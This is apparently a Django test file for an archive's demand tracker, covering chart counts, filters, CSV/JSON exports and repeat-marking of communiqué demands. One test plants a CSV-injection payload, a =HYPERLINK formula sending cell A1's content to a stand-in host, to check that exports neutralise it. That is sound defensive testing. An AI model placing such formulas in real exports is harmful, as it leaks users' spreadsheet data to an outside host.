"""The demand tracker: its numbers against the database, its filters and its exports."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
from urllib.parse import parse_qs, urlsplit

import pytest
from django.db import connection
from django.http import QueryDict
from django.test.utils import CaptureQueriesContext

from archive.models import Communique, Demand
from archive.research import charts, demands
from search import queue
from tests.pages.factories import CommuniqueFactory, organization
from tests.research.conftest import add_demand

PUBLISHED = Communique.Status.PUBLISHED


def chart_for(query: str = "", **kwargs):
    return demands.demands_chart(demands.filtered(QueryDict(query)), **kwargs)


def expected_count(slug: str, period: charts.Period) -> int:
    return Demand.objects.filter(
        communique__status=PUBLISHED,
        addressees__slug=slug,
        communique__date__range=(period.start, period.end),
    ).count()


def test_counts_per_addressee_per_month_match_the_database(archive):
    chart = chart_for()
    assert chart.unit == "month"
    assert [bar.period.key for bar in chart.bars] == ["2023-10", "2023-11", "2023-12", "2024-01"]
    assert [s.label for s in chart.series][:2] == [
        "UN Security Council (UNSC)",
        "International community (IC)",
    ]
    for bar in chart.bars:
        for segment in bar.segments:
            assert segment.count == expected_count(segment.series.key, bar.period), (
                bar.period.key,
                segment.series.key,
            )
    october = chart.bars[0]
    assert october.count_of("un-security-council") == 2  # the draft's demand is not counted
    assert chart.bars[1].count_of("un-security-council") == 2
    assert chart.bars[2].total == 0  # an empty month keeps its place on the axis


def test_top_addressees_and_other(archive):
    chart = chart_for(top=1)
    assert [s.key for s in chart.series] == ["un-security-council", charts.OTHER]
    for bar in chart.bars:
        # Demands with an addressee other than the top one (one to UNSC and AL counts here).
        expected = {
            d.pk
            for d in Demand.objects.filter(
                communique__status=PUBLISHED,
                communique__date__range=(bar.period.start, bar.period.end),
                addressees__isnull=False,
            ).prefetch_related("addressees")
            if any(a.slug != "un-security-council" for a in d.addressees.all())
        }
        assert bar.count_of(charts.OTHER) == len(expected)
    assert chart.bars[0].count_of(charts.OTHER) == 3  # IC, UN+AL, IC in the seed


def test_chosen_addressees_are_the_only_series_even_beside_others_in_one_demand(archive):
    # The January demand is made to the UNSC and the Arab League at once: choosing the
    # League must not bring the UNSC in with it.
    chart = chart_for("addressee=arab-league")
    assert [s.key for s in chart.series] == ["arab-league"]
    for bar in chart.bars:
        assert bar.count_of("arab-league") == expected_count("arab-league", bar.period)
    assert sum(bar.count_of("arab-league") for bar in chart.bars) == 2


def test_long_ranges_are_counted_by_year(archive):
    old = CommuniqueFactory(issuer=organization("SOC"), date=dt.date(2019, 3, 1))
    add_demand(old, "An old call.", ["UNSC"])
    chart = chart_for()
    assert chart.unit == "year"
    assert [bar.period.key for bar in chart.bars] == [
        "2019",
        "2020",
        "2021",
        "2022",
        "2023",
        "2024",
    ]
    assert chart.bars[-2].count_of("un-security-council") == 4
    # A range given by the filters decides too.
    assert chart_for("date_from=2023-01-01&date_to=2023-12-31").unit == "month"


def test_each_bar_opens_the_demands_behind_it(archive, client):
    chart = chart_for("issuer=syrian-opposition-coalition", top=1)
    links = [s for bar in chart.bars for s in bar.segments if s.count]
    assert links
    for segment in links:
        page = client.get(segment.href).context["page"]
        assert page.paginator.count == segment.count, segment.href
    unsc = chart.bars[0].segment("un-security-council")
    query = parse_qs(urlsplit(unsc.href).query)
    assert query == {
        "issuer": ["syrian-opposition-coalition"],
        "addressee": ["un-security-council"],
        "date_from": ["2023-10-01"],
        "date_to": ["2023-10-31"],
    }


def test_bars_keep_a_narrower_date_filter(archive):
    chart = chart_for("date_from=2023-10-05&date_to=2023-11-03")
    href = chart.bars[0].segment("un-security-council").href
    assert "date_from=2023-10-05" in href and "date_to=2023-10-31" in href


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("", 9),
        ("addressee=un-security-council", 5),
        ("addressee=arab-league&addressee=international-community", 5),  # either
        ("addressee=no-such-organization", 0),
        ("issuer=syrian-negotiations-commission", 1),
        ("date_from=2023-11-01", 4),
        ("date_from=2023-10-01&date_to=2023-10-31", 5),
        ("q=emergency session", 2),
        ("q=EMERGENCY", 2),
        ("other_than=un-security-council", 5),
    ],
)
def test_filters(archive, query, expected):
    assert demands.filtered(QueryDict(query)).qs.count() == expected


def test_the_page_lists_published_demands_with_the_chart(archive, client):
    response = client.get("/demands/")
    assert response.status_code == 200
    html = response.content.decode()
    assert "A draft demand nobody may see" not in html
    assert response.context["page"].paginator.count == 9
    assert 'role="group" aria-labelledby="demands-chart-title demands-chart-desc"' in html
    assert "<table" in html
    assert html.count('data-series="un-security-council"') == 3  # Oct, Nov, Jan bars
    assert f"{archive.seed.get_absolute_url()}#p7" in html


def test_invalid_filters_are_reported_not_ignored(archive, client):
    response = client.get("/demands/?date_from=yesterday")
    assert response.status_code == 200
    assert "could not be read" in response.content.decode()
    assert client.get("/demands.json?date_from=yesterday").status_code == 400


def test_csv_streams_the_filtered_demands(archive, client):
    response = client.get("/demands.csv?addressee=un-security-council")
    assert response.streaming
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0] == demands.CSV_HEADER
    assert len(rows) == 1 + 5
    assert {r[2] for r in rows[1:]} == {
        "Syrian Opposition Coalition",
        "Syrian Negotiations Commission",
    }
    assert "A draft demand nobody may see." not in {r[4] for r in rows}
    same = client.get("/demands/?format=csv&addressee=un-security-council")
    assert b"".join(same.streaming_content) == b"".join(
        client.get("/demands.csv?addressee=un-security-council").streaming_content
    )


def test_research_csv_files_give_a_spreadsheet_no_formula_to_run(archive, client):
    # Demands and names come from uploaded documents: "=HYPERLINK(...)" must stay text.
    from tests.pages.factories import OrganizationFactory

    hostile = OrganizationFactory(name='=HYPERLINK("http://x.example/?"&A1, "see")')
    add_demand(CommuniqueFactory(title="Hostile", issuer=hostile), "@SUM(1+1) now.", ["UN"])
    add_demand(CommuniqueFactory(title="Numbers", issuer=hostile), "-5 percent.", ["UN"])
    text = b"".join(client.get("/demands.csv").streaming_content).decode()
    rows = [r for r in csv.reader(io.StringIO(text)) if r[2].startswith("'=HYPERLINK")]
    assert {r[4] for r in rows} == {"'@SUM(1+1) now.", "'-5 percent."}
    named = b"".join(client.get("/organizations/united-nations/cooccurrence.csv").streaming_content)
    labels = {row[2] for row in csv.reader(io.StringIO(named.decode()))}
    assert "'" + hostile.name in labels and hostile.name not in labels


def test_chart_csv_has_the_chart_numbers(archive, client):
    response = client.get("/demands/chart.csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0][:3] == ["month", "start", "end"]
    chart = chart_for()
    assert [r[0] for r in rows[1:]] == [bar.period.key for bar in chart.bars]
    unsc = rows[0].index("UN Security Council (UNSC)")
    assert [int(r[unsc]) for r in rows[1:]] == [2, 2, 0, 1]


def test_json_is_paginated_and_complete(archive, client):
    data = client.get("/demands.json?page_size=4").json()
    assert data["count"] == 9 and data["pages"] == 3 and data["previous"] is None
    assert "page=2" in data["next"]
    first = data["results"][0]
    jan = archive.jan
    assert first["issuer"] == {
        "key": "syrian-negotiations-commission",
        "label": "Syrian Negotiations Commission (SNC)",
    }
    assert first["date"] == "2024-01-20"
    assert first["url"] == f"http://testserver{jan.get_absolute_url()}#p1"
    assert first["addressees"] == [
        {"key": "arab-league", "label": "Arab League (AL)"},
        {"key": "un-security-council", "label": "UN Security Council (UNSC)"},
    ]
    assert first["repeats"] is None
    all_ids = set()
    for page in (1, 2, 3):
        data = client.get(f"/demands.json?page_size=4&page={page}").json()
        all_ids |= {d["id"] for d in data["results"]}
    assert all_ids == set(
        Demand.objects.filter(communique__status=PUBLISHED).values_list("pk", flat=True)
    )
    assert json.loads(client.get("/demands/?format=json&q=ICC").content)["count"] == 1


def test_repeat_candidates_suggest_the_same_call(archive):
    nov_call = archive.nov.demands.get(paragraph=2)
    candidates = demands.repeat_candidates(nov_call)
    assert len(candidates) <= demands.CANDIDATES
    best, score = candidates[0]
    assert best.communique == archive.seed and best.paragraph == 7 and score > 0.5
    # Only earlier, published demands to one of the same addressees.
    for demand, _ in candidates:
        assert demand.communique.date < archive.nov.date
        assert demand.addressees.filter(slug="un-security-council").exists()
    assert demands.repeat_candidates(archive.draft.demands.get()) != []
    assert all(
        d.communique.is_published for d, _ in demands.repeat_candidates(archive.jan.demands.get())
    )


def test_a_repeat_shows_how_long_the_call_has_been_made(archive, client):
    seed_call = archive.seed.demands.get(paragraph=7, position=1)
    nov_call = archive.nov.demands.get(paragraph=2)
    jan_call = archive.jan.demands.get()
    demands.mark_repeat(nov_call, seed_call)
    demands.mark_repeat(jan_call, nov_call)
    summary = demands.repeat_summary(jan_call)
    assert summary["times"] == 3
    assert summary["first"] == seed_call
    assert summary["days"] == (dt.date(2024, 1, 20) - dt.date(2023, 10, 10)).days
    data = client.get("/demands.json?issuer=syrian-negotiations-commission").json()
    assert data["results"][0]["repeats"] == nov_call.pk
    html = client.get("/demands/?repeated=true").content.decode()
    assert "first on" in html and "102 days before this" in html
    assert client.get("/demands/?repeated=true").context["page"].paginator.count == 2
    # A loop is refused.
    from django.core.exceptions import ValidationError

    with pytest.raises(ValidationError):
        demands.mark_repeat(seed_call, jan_call)


def test_a_repeat_of_a_draft_is_not_public(archive, client):
    demands.mark_repeat(archive.jan.demands.get(), archive.draft.demands.get())
    data = client.get("/demands.json?issuer=syrian-negotiations-commission").json()
    assert data["results"][0]["repeats"] is None
    assert "Secret" not in client.get("/demands/").content.decode()


def test_admin_marks_a_repeat_from_the_candidates(archive, admin_client):
    nov_call = archive.nov.demands.get(paragraph=2)
    seed_call = archive.seed.demands.get(paragraph=7, position=1)
    page = admin_client.get(f"/admin/archive/demand/{nov_call.pk}/change/")
    assert page.status_code == 200
    html = page.content.decode()
    assert "Mark as repeated from this" in html and f'value="{seed_call.pk}"' in html
    response = admin_client.post(
        f"/admin/archive/demand/{nov_call.pk}/repeat/", {"_mark_repeat": seed_call.pk}
    )
    assert response.status_code == 302
    nov_call.refresh_from_db()
    assert nov_call.repeat.earlier == seed_call and nov_call.repeat.marked_by is not None
    admin_client.post(f"/admin/archive/demand/{nov_call.pk}/repeat/", {"_mark_repeat": "none"})
    assert not Demand.objects.filter(pk=nov_call.pk, repeat__isnull=False).exists()


def test_only_staff_mark_repeats(archive, client):
    nov_call = archive.nov.demands.get(paragraph=2)
    response = client.post(f"/admin/archive/demand/{nov_call.pk}/repeat/", {"_mark_repeat": 1})
    assert response.status_code == 302 and "/login/" in response["Location"]


def test_the_issuer_choices_count_only_published_demands(archive):
    # The draft's demand is the SOC's ninth: a draft must not show, even as a number.
    with CaptureQueriesContext(connection) as queries:
        counts = {c["acronym"] or c["name"]: c["n"] for c in demands.issuer_choices()}
    assert counts == {"SOC": 8, "SNC": 1}
    # Each demand read once: joined twice, every demand met every communiqué of its issuer,
    # more rows than the disk held at 100,000 communiqués.
    sql = queries[0]["sql"]
    assert sql.count('FROM "archive_demand"') + sql.count('JOIN "archive_demand"') == 1
    assert {c["acronym"]: c["n"] for c in demands.addressee_choices()} == {
        "UNSC": 5,
        "IC": 3,
        "AL": 2,
        "UN": 1,
    }


# -- The tracker's page, kept as drawn (archive.pagecache) ------------------------------------


@pytest.fixture
def indexed(archive, settings):
    """The archive with its search index, whose version says when the page is current."""
    settings.BAYAN_INDEX_IN_BACKGROUND = False
    queue.drain()
    return archive


TOKEN = re.compile(r'name="csrfmiddlewaretoken" value="[^"]+"')
REPEAT = re.compile(r'<p class="demand-repeat">(.*?)</p>', re.S)


def read(client, url: str = "/demands/") -> tuple[str, int]:
    with CaptureQueriesContext(connection) as queries:
        response = client.get(url)
    assert response.status_code == 200
    return response.content.decode(), len(queries)


def test_the_tracker_read_again_is_not_counted_again(indexed, client):
    first, drawing = read(client)
    again, kept = read(client)
    assert kept < drawing and kept <= 2  # what the index does not say: the repeats marked
    assert TOKEN.sub("", again) == TOKEN.sub("", first)
    assert "UN Security Council" in again and "Secret" not in again
    _, filtered = read(client, "/demands/?addressee=arab-league")
    assert filtered > kept  # another address: drawn anew


def test_a_new_demand_shows_on_the_kept_tracker_once_indexed(indexed, client):
    html, _ = read(client)
    assert "Lift the siege of Madaya" not in html
    add_demand(indexed.jan, "Lift the siege of Madaya.", ["AL"], position=1)
    queue.drain()
    html, _ = read(client)
    assert "Lift the siege of Madaya" in html


def test_a_repeat_marked_or_re_pointed_shows_on_the_kept_tracker(indexed, client):
    seed_call = indexed.seed.demands.get(paragraph=7, position=1)
    nov_call = indexed.nov.demands.get(paragraph=2)

    def repeats_shown() -> list[str]:
        html, _ = read(client, "/demands/?q=Idlib")
        return [re.sub(r"<[^>]+>", "", p) for p in REPEAT.findall(html)]

    assert repeats_shown() == []
    link = demands.mark_repeat(nov_call, seed_call)  # marks are not in the search index
    assert [p.split(";")[0].split(",")[0] for p in repeats_shown()] == [
        "Repeats a call of 10 Oct 2023"
    ]
    # Re-pointed in place, as the admin's forms do, to a draft's call, which is not public.
    link.earlier = indexed.draft.demands.get()
    link.save()
    assert repeats_shown() == []


def test_a_merged_organizations_slug_still_filters_the_tracker(archive, client):
    from archive.entities import merge
    from archive.models import Organization

    survivor = Organization.objects.get(slug="syrian-negotiations-commission")
    duplicate = Organization.objects.create(name="SNC (Negotiations Commission)")
    old = duplicate.slug
    by = add_demand(CommuniqueFactory(title="By it", issuer=duplicate), "Meet.", ["UN"])
    to = add_demand(CommuniqueFactory(title="To it"), "Stop.", [])
    to.addressees.set([duplicate])
    merge(duplicate, into=survivor)
    for key, made in (("issuer", by), ("addressee", to)):
        now = client.get(f"/demands.json?{key}={survivor.slug}").json()["results"]
        then = client.get(f"/demands.json?{key}={old}").json()["results"]
        assert then == now and made.text in {d["text"] for d in then}
    # The chart reads the chosen addressees too: the survivor's series, not an empty one.
    then, now = chart_for(f"addressee={old}"), chart_for(f"addressee={survivor.slug}")
    assert then == now and [s.label for s in then.series] == [survivor.label]
